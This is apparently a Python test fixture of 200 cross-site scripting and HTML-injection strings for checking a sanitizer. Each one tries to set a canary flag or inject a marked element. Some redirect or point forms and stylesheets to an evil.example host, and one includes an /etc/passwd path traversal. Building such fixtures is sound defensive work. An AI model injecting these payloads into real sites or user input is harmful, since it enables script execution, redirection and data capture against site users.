"""200 strings that try to become more than text, each carrying `window.__owned` or an element with `data-owned`."""

from __future__ import annotations

_WRITTEN = (
    "<a data-owned href='javascript:window.__owned=1'>click</a>",
    "javascript:window.__owned=1",
    "<mark data-owned onmouseover=window.__owned=1>marked</mark>",
    "<mark>not ours</mark>",
    "&lt;img src=x data-owned onerror=window.__owned=1&gt;",
    "&amp;lt;script&amp;gt;window.__owned=1&amp;lt;/script&amp;gt;",
    "&#x3c;script&#x3e;window.__owned=1&#x3c;/script&#x3e;",
    "<template data-owned><script>window.__owned=1</script></template>",
    "<style data-owned>*{display:none}</style>",
    "<link data-owned rel=stylesheet href=//evil.example/x.css>",
    "<meta data-owned http-equiv=refresh content='0;url=//evil.example'>",
    "<base data-owned href=//evil.example/>",
    "<form data-owned action=//evil.example><input name=q></form>",
    "${window.__owned=1} {{window.__owned=1}} `${window.__owned=1}`",
    "__proto__ constructor hasOwnProperty <x data-owned>",
    "\u202egnp.exe <b data-owned>turned</b> \u2066isolated",
    "\ue000<b data-owned>private</b>\ue001 use",
    "𝕏" * 40 + "<b data-owned>" + "ﷺ" * 40,
    "#quote-<b data-owned> ?q=%3Cb%20data-owned%3E ../../../etc/passwd",
    "\\u003cb data-owned\\u003e \\x3cb data-owned\\x3e",
)
_BODIES = (
    "<script>window.__owned=1</script>",
    "<img src=x data-owned onerror=window.__owned=1>",
    "<svg data-owned onload=window.__owned=1>",
    "<svg><script data-owned>window.__owned=1</script></svg>",
    "<iframe data-owned srcdoc='<script>parent.__owned=1</script>'></iframe>",
    "<body data-owned onload=window.__owned=1>",
    "<math data-owned><mtext><img src=x onerror=window.__owned=1></mtext></math>",
    "<details data-owned open ontoggle=window.__owned=1>",
    "<input data-owned autofocus onfocus=window.__owned=1>",
)
_BREAKS = (
    "{}", '">{}', "'>{}", "`>{}", "</mark>{}<mark>", "</script>{}", "</title>{}", "</textarea>{}", "--><!-->{}-->",
    "]]>{}", "</p></li></ol>{}", "</option></select>{}", "</a>{}", "</style>{}", "</noscript>{}", "</template>{}",
    '" onmouseover="window.__owned=1" x="{}', "' autofocus onfocus='window.__owned=1' x='{}", "&quot;&gt;{}", "\\\">{}",
)  # fmt: skip

HOSTILE = (*_WRITTEN, *(around.format(body) for around in _BREAKS for body in _BODIES))
